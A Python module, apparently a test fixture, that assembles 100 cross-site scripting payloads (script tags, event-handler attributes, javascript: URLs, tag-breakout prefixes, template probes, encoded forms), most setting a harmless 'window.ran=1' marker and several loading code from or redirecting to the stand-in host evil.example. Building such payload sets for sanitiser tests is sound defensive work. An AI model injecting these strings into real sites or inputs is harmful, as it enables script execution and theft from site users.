"""A hundred texts that would run, if anything took them for more than text."""

from __future__ import annotations

from typing import Final

_DO: Final = "window.ran=1"
_TAGS: Final = (
    f"<script>{_DO}</script>",
    f"<SCRIPT>{_DO}</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={_DO}>",
    f"<img src=x onerror='{_DO}'>",
    f'<img src="x" onerror="{_DO}">',
    f"<svg onload={_DO}>",
    f"<svg/onload={_DO}>",
    f"<svg><script>{_DO}</script></svg>",
    f"<body onload={_DO}>",
    f"<iframe src=javascript:{_DO}>",
    f"<iframe srcdoc='<script>parent.{_DO}</script>'>",
    f"<a href=javascript:{_DO}>x</a>",
    f"<details open ontoggle={_DO}>",
    f"<video><source onerror={_DO}>",
    f"<audio src=x onerror={_DO}>",
    f"<input autofocus onfocus={_DO}>",
    f"<select autofocus onfocus={_DO}>",
    f"<textarea autofocus onfocus={_DO}>",
    f"<marquee onstart={_DO}>",
    f"<object data=javascript:{_DO}>",
    f"<embed src=javascript:{_DO}>",
    f"<math><mtext><script>{_DO}</script>",
    f"<form action=javascript:{_DO}><button>x",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    f"<template><script>{_DO}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_DO}>'>",
)
_BREAKS: Final = ("", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "</pre>", "-->")
_OTHERS: Final = (
    "{{ 7 * 7 }}",
    "{# raw #}",
    "${window.ran=1}",
    "javascript:window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;script&#62;window.ran=1",
    "\\u003cscript\\u003ewindow.ran=1",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "<\u0000script>window.ran=1</script>",
)

PAYLOADS: Final = (
    *_TAGS,
    *(before + tag for before in _BREAKS[1:7] for tag in _TAGS[:10]),
    *_OTHERS,
)
assert len(PAYLOADS) == len(set(PAYLOADS)) == 100
